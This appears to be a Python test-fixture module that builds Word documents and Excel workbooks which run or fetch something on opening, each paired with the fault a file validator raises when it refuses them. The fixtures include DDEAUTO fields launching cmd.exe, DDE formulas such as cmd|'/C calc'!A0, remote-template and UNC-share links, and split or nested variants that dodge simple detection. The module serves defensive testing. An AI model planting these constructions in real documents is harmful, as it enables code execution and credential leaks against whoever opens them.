"""Documents and workbooks that do something, or fetch something, when somebody opens them."""

from __future__ import annotations

from functools import cache
from xml.sax.saxutils import escape, quoteattr

from reports.evidence.kinds import FileFault
from tests.reports.evidence.papers import (
    RELATIONS,
    document,
    members_of,
    relations,
    with_members,
    workbook,
)

Files = dict[str, tuple[bytes, FileFault]]
SHARE = r"\\host\share\a"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


@cache
def plain() -> bytes:
    """Return a document that does nothing."""
    return document()


def documents() -> Files:
    """Return documents by what acts in them, each with why it is refused."""
    return {**_fields(), **_fetching(), **_holding(), **_drawings()}


def run(code: str, element: str = "instrText") -> str:
    """Return a run with a piece of a field's code, or with a text."""
    return f"<w:r><w:{element}>{escape(code)}</w:{element}></w:r>"


def mark(kind: str) -> str:
    """Return the run that says where a field begins, where its result begins, or where it ends."""
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def field(*pieces: str, result: str = "1") -> str:
    """Return a whole field; pieces that begin with "<" are fields of their own."""
    code = "".join(piece if piece.startswith("<") else run(piece) for piece in pieces)
    return mark("begin") + code + mark("separate") + run(result, "t") + mark("end")


def with_runs(runs: str, part: str = "word/document.xml") -> bytes:
    """Return a document with the runs in a paragraph of one of its parts."""
    good = plain()
    held = members_of(good).get(part, f'<w:ftr xmlns:w="{WORD}"></w:ftr>'.encode()).decode()
    before, tag, behind = (
        held.partition("<w:sectPr") if part == "word/document.xml" else held.partition("</w:ftr>")
    )
    return with_members(good, {part: f"{before}<w:p>{runs}</w:p>{tag}{behind}".encode()}, compression=0)


def with_relation(kind: str, target: str, mode: str = "External", part: str = "document.xml") -> bytes:
    """Return a document with one more list of relations."""
    return with_members(plain(), {f"word/_rels/{part}.rels": relations(kind, target, mode)})


def _fields() -> Files:
    codes = {
        r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"': FileFault.DDE,
        r'DDE excel "C:\\a.xlsx" R1C1': FileFault.DDE,
        "ddeauto cmd": FileFault.DDE,
        '"DDEAUTO" cmd': FileFault.DDE,
        'INCLUDETEXT "https://example.vn/a.docx"': FileFault.FIELD,
        'INCLUDEPICTURE "https://example.vn/a.png" \\d': FileFault.FIELD,
        'INCLUDE "a.docx"': FileFault.FIELD,
        'IMPORT "a.png"': FileFault.FIELD,
        r'LINK Excel.Sheet.12 "C:\\a.xlsx" "Sheet1!R1C1" \a \p': FileFault.FIELD,
        r'RD "\\\\host\\a.docx"': FileFault.FIELD,
        'DATABASE \\c "DSN=a"': FileFault.FIELD,
        "EMBED Package": FileFault.OBJECT,
        "CONTROL Forms.TextBox.1": FileFault.ACTIVEX,
        r'HYPERLINK "\\\\host\\share\\a"': FileFault.ADDRESS,
        r'HYPERLINK \o "lời" "file://host/a"': FileFault.ADDRESS,
        'HYPERLINK "search-ms:query=a"': FileFault.ADDRESS,
    }
    found: Files = {}
    for code, why in codes.items():
        simple = f"<w:fldSimple w:instr={quoteattr(code)}>{run('1', 't')}</w:fldSimple>"
        found[f"a field {code}"] = with_runs(field(code)), why
        found[f"a field {code}, letter by letter"] = with_runs(field(*code)), why
        found[f"a field {code}, in one piece"] = with_runs(simple), why
        found[f"a field {code}, in a footer"] = with_runs(field(code), "word/footer1.xml"), why
        found[f"a field {code}, within another"] = with_runs(field("IF 1 = 1 ", field(code))), why
        found[f"a field {code}, without an end"] = with_runs(mark("begin") + run(code)), why
    dde = "DDEAUTO cmd"
    found["a field whose name is the result of another"] = (
        with_runs(field(field("QUOTE 68 68 69", result=""), " cmd")),
        FileFault.FIELD,
    )
    found["a field of which another's result is the name"] = (
        with_runs(field(" ", field("REF a", result=dde))),
        FileFault.DDE,
    )
    found["a field that was deleted"] = (
        with_runs(field().replace("</w:t>", "</w:t>") + run(dde, "delInstrText")),
        FileFault.DDE,
    )
    decoy = '<w:r><zz:fldChar xmlns:zz="zz" zz:fldCharType="{}"/></w:r>'
    split = (
        mark("begin") + run("DD") + decoy.format("end") + decoy.format("begin") + run("EAUTO c") + mark("end")
    )
    found["a field with ends that Word does not see"] = with_runs(split), FileFault.DDE
    return found


def _fetching() -> Files:
    kinds = {
        "attachedTemplate": FileFault.TEMPLATE,
        "image": FileFault.REMOTE_PICTURE,
        "frame": FileFault.FETCHED,
        "subDocument": FileFault.FETCHED,
        "mailMergeSource": FileFault.FETCHED,
        "transform": FileFault.FETCHED,
        "video": FileFault.FETCHED,
        "aFChunk": FileFault.CHUNK,
        "oleObject": FileFault.OBJECT,
        "package": FileFault.OBJECT,
        "hyperlink": FileFault.ADDRESS,
    }
    found: Files = {f"{kind} at a share": (with_relation(kind, SHARE), why) for kind, why in kinds.items()}
    web = "https://example.vn/a"
    found |= {
        f"{kind} in the web": (with_relation(kind, web), why)
        for kind, why in kinds.items()
        if kind != "hyperlink"
    }
    found["a picture in the web that says it is within"] = (
        with_relation("image", web, "Internal"),
        FileFault.REMOTE_PICTURE,
    )
    found["relations in UTF-16"] = (
        with_members(
            plain(),
            {"word/_rels/a.xml.rels": relations("attachedTemplate", "a").decode().encode("utf-16")},
        ),
        FileFault.TEMPLATE,
    )
    found["the relations of the whole"] = (
        with_members(plain(), {"_rels/.rels": relations("image", web)}),
        FileFault.REMOTE_PICTURE,
    )
    for target in (
        "file://host/a.docx",
        "file:///C:/Windows/a.exe",
        "//host/a",
        "/\\host\\a",
        "%5C%5Chost%5Ca",
        " \\\\host\\a",
        "FILE:a",
        "javascript:a()",
        "ms-word:ofe|u|https://example.vn/a.docm",
        "C:\\a.exe",
    ):
        found[f"a link to {target}"] = with_relation("hyperlink", target), FileFault.ADDRESS
    base = members_of(plain())["docProps/app.xml"].replace(
        b"</Properties>", b"<HyperlinkBase>\\\\host\\share\\</HyperlinkBase></Properties>"
    )
    found["links that begin at a share"] = (
        with_members(plain(), {"docProps/app.xml": base}),
        FileFault.ADDRESS,
    )
    return found


def _holding() -> Files:
    good = plain()
    held = {
        "an altChunk": ({"word/afchunk.mht": b"MIME-Version: 1.0"}, FileFault.CHUNK),
        "an altChunk by its element": (None, FileFault.CHUNK),
        "an RTF": ({"word/embeddings/a.dat": b"{\\rtf1 a}"}, FileFault.CHUNK),
        "an RTF by its name": ({"word/a.rtf": b"a"}, FileFault.CHUNK),
        "an object of another program": ({"word/embeddings/oleObject1.bin": b"a"}, FileFault.OBJECT),
        "a package": (
            {"word/_rels/b.xml.rels": relations("package", "embeddings/a.xlsx", "Internal")},
            FileFault.OBJECT,
        ),
        "a control": ({"word/activeX/activeX1.xml": b"<a/>"}, FileFault.ACTIVEX),
        "an add-in": ({"word/webextensions/webextension1.xml": b"<a/>"}, FileFault.WEB_EXTENSION),
        "an add-in by its relation": (
            {"_rels/.rels": relations("webextensiontaskpanes", "a.xml", "Internal")},
            FileFault.WEB_EXTENSION,
        ),
        "a film of the web": (
            {"word/a.xml": b'<wp15:webVideoPr xmlns:wp15="a" embeddedHtml="&lt;iframe/&gt;"/>'},
            FileFault.FETCHED,
        ),
        "letters from a table": ({"word/b.xml": b'<w:mailMerge xmlns:w="a"/>'}, FileFault.CONNECTIONS),
        "a part that is no XML by its name": (
            {"word/c.dat": b'<o:OLEObject xmlns:o="a" Type="Link"/>'},
            FileFault.OBJECT,
        ),
        "a schema at a share": ({"word/d.xml": b'<a SchemaRef="\\\\host\\a.xsd"/>'}, FileFault.ADDRESS),
    }
    chunk = with_runs('</w:p><w:altChunk r:id="r9"/><w:p>')
    return {
        f"a document with {about}": (with_members(good, more) if more else chunk, why)
        for about, (more, why) in held.items()
    }


def _drawings() -> Files:
    drawn = {
        f'<a:blip xmlns:a="a" xmlns:r="{RELATIONS}" r:link="rId9"/>': FileFault.REMOTE_PICTURE,
        '<v:imagedata xmlns:v="v" src="https://example.vn/a.png"/>': FileFault.REMOTE_PICTURE,
        '<v:imagedata xmlns:v="v" xmlns:o="o" o:href="https://example.vn/a.png"/>': FileFault.REMOTE_PICTURE,
        r'<v:fill xmlns:v="v" src="\\host\a.png"/>': FileFault.REMOTE_PICTURE,
        r'<v:shape xmlns:v="v" href="\\host\a"/>': FileFault.ADDRESS,
    }
    good = plain()
    found: Files = {f"a drawing {xml}": (with_runs(f"<w:r>{xml}</w:r>"), why) for xml, why in drawn.items()}
    loose = {
        "vml": (b'<xml><br><v:imagedata src="https://example.vn/a"/></xml>', FileFault.REMOTE_PICTURE),
        "svg": (
            b'<!DOCTYPE svg><svg><image xlink:href="https://example.vn/a"/></svg>',
            FileFault.REMOTE_PICTURE,
        ),
        "VML": (rb'<xml><br><v:shape href="\\host\a"/></xml>', FileFault.ADDRESS),
        "vml in UTF-16": ('<xml><v:shape href="file://host/a"/>'.encode("utf-16"), FileFault.ADDRESS),
    }
    for about, (drawing, why) in loose.items():
        name = f"word/drawings/drawing1.{about.split()[0]}"
        found[f"a drawing of {about}"] = with_members(good, {name: drawing}), why
    return found


def with_formula(formula: str, about: str = "<c r='F9'><f>{}</f><v>0</v></c>") -> bytes:
    """Return a workbook with one more cell that holds the formula."""
    good = workbook()
    sheet = members_of(good)["xl/worksheets/sheet1.xml"].decode()
    cell = about.format(escape(formula))
    return with_members(
        good,
        {
            "xl/worksheets/sheet1.xml": sheet.replace(
                "</sheetData>", f"<row r='9'>{cell}</row></sheetData>"
            ).encode()
        },
    )


def workbooks() -> Files:
    """Return workbooks by what acts in them, each with why it is refused."""
    good = workbook()
    formulas = {
        "cmd|'/C calc'!A0": FileFault.DDE,
        "1+MSEXCEL|'\\..\\cmd.exe'!A1": FileFault.DDE,
        '_xlfn.WEBSERVICE("https://example.vn/"&A1)': FileFault.FORMULA,
        'RTD("a.b",,"c")': FileFault.FORMULA,
        '_xlfn.IMAGE("https://example.vn/a.png")': FileFault.FORMULA,
        'CALL("kernel32","a","b")': FileFault.FORMULA,
        'HYPERLINK("\\\\host\\share\\a","Xem")': FileFault.ADDRESS,
        'HYPERLINK("file://host/a","Xem")': FileFault.ADDRESS,
        "'\\\\host\\share\\[a.xlsx]Sheet1'!A1": FileFault.ADDRESS,
        "'C:\\so lieu\\[a.xlsx]Sheet1'!A1": FileFault.LINKS,
    }
    found: Files = {f"a formula {formula}": (with_formula(formula), why) for formula, why in formulas.items()}
    conversation = "cmd|'/C calc'!A0"
    found["a name that is a formula"] = (
        with_members(good, {"xl/a.xml": f"<a><definedName>{conversation}</definedName></a>".encode()}),
        FileFault.DDE,
    )
    found["a rule that is a formula"] = (
        with_formula(conversation, "<c r='F9'/><x:formula1 xmlns:x='x'>{}</x:formula1>"),
        FileFault.DDE,
    )
    parts = {
        "xl/externalLinks/externalLink1.xml": (b"<externalLink/>", FileFault.LINKS),
        "xl/connections.xml": (b"<connections/>", FileFault.CONNECTIONS),
        "xl/queryTables/queryTable1.xml": (b"<queryTable/>", FileFault.CONNECTIONS),
        "xl/model/item.data": (b"a", FileFault.CONNECTIONS),
        "xl/volatileDependencies.xml": (b"<volTypes/>", FileFault.CONNECTIONS),
        "xl/webextensions/taskpanes.xml": (b"<a/>", FileFault.WEB_EXTENSION),
        "xl/activeX/activeX1.bin": (b"a", FileFault.ACTIVEX),
        "xl/embeddings/oleObject1.bin": (b"a", FileFault.OBJECT),
        "xl/richData/rdRichValueWebImage.xml": (b"<a/>", FileFault.REMOTE_PICTURE),
        "customXml/item1.xml": (
            b'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>',
            FileFault.CONNECTIONS,
        ),
        "xl/b.xml": (b'<ddeLink ddeService="cmd" ddeTopic="/C calc"/>', FileFault.DDE),
        "xl/c.xml": (b'<oleLink progId="a"/>', FileFault.LINKS),
        "xl/d.xml": (b'<hyperlink ref="A1" location="\\\\host\\share\\a"/>', FileFault.ADDRESS),
    }
    found |= {name: (with_members(good, {name: part}), why) for name, (part, why) in parts.items()}
    kinds = {
        "externalLink": FileFault.LINKS,
        "externalLinkPath": FileFault.LINKS,
        "connections": FileFault.CONNECTIONS,
        "queryTable": FileFault.CONNECTIONS,
        "control": FileFault.ACTIVEX,
        "image": FileFault.REMOTE_PICTURE,
        "oleObject": FileFault.OBJECT,
    }
    return found | {
        f"a relation {kind}": (
            with_members(good, {"xl/_rels/a.xml.rels": relations(kind, "https://a.vn/a")}),
            why,
        )
        for kind, why in kinds.items()
    }
